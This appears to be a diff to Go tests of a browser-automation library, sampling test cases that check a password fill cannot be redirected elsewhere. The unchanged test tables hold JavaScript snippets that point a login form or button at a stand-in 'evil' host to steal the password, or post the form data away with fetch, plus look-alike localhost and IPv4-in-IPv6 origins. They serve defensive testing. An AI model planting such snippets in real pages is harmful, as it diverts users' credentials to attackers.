@@ -14,6 +14,7 @@ import (
 	"github.com/bctrl-go/bctrl"
 	"github.com/bctrl-go/bctrl/internal/browser"
 	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
+	"github.com/bctrl-go/bctrl/internal/sample"
 )
 
 // TestWhatChangesAfterAFillTakesTheValueNowhereElse fills forms that send where they should,
@@ -22,7 +23,7 @@ func TestWhatChangesAfterAFillTakesTheValueNowhereElse(t *testing.T) {
 	t.Parallel()
 	_, p, b := openPageOfEveryName(t)
 	const form = `<form id=f method=post action=/login>` + passwordField + `<button id=b>Log in</button></form>`
-	for i, c := range []struct{ why, page, script string }{
+	for i, c := range sample.Of(t, 2, []struct{ why, page, script string }{
 		{"the form's address", form, `f.action = evil + '/steal'`},
 		{"the button's address", form, `b.formAction = evil + '/steal'`},
 		{"a button that was added", form, `const n = b.cloneNode(true); n.formAction = evil + '/steal'; b.replaceWith(n)`},
@@ -45,7 +46,7 @@ func TestWhatChangesAfterAFillTakesTheValueNowhereElse(t *testing.T) {
 		{"a redirect below the site", form, `f.action = '/below'`},
 		{"a redirect of a script's request", form, `f.onsubmit = e => { e.preventDefault();
 			fetch('/away', {method: 'POST', mode: 'no-cors', body: new FormData(f)}) }`},
-	} {
+	}) {
 		for _, direct := range []bool{false, true} {
 			t.Run(fmt.Sprint(c.why, ", direct ", direct), func(t *testing.T) {
 				ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
@@ -178,7 +179,7 @@ func TestALookAlikeIsNotTheLoginsSite(t *testing.T) {
 	port := func(site *browsertest.Site) string { return site.URL[strings.LastIndexByte(site.URL, ':'):] }
 	entry, own, named := s.At("bank.example"), plain.At("127.0.0.1"), plain.At("localhost")
 	secure := func(host string) string { return "https://" + host + port(s) }
-	for _, c := range []struct {
+	for _, c := range sample.Of(t, 2, []struct {
 		why, url string
 		is       string // the origin that it is; empty for none of the login's
 	}{
@@ -211,7 +212,7 @@ func TestALookAlikeIsNotTheLoginsSite(t *testing.T) {
 		{"the machine's name with a dot", "http://localhost." + port(plain), ""},
 		{"an address of IPv4 in IPv6", "http://[::ffff:127.0.0.1]" + port(plain), ""},
 		{"an address of IPv4 in IPv6, in hexadecimal", "http://[::ffff:7f00:1]" + port(plain), ""},
-	} {
+	}) {
 		t.Run(c.why, func(t *testing.T) {
 			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
 			defer cancel()
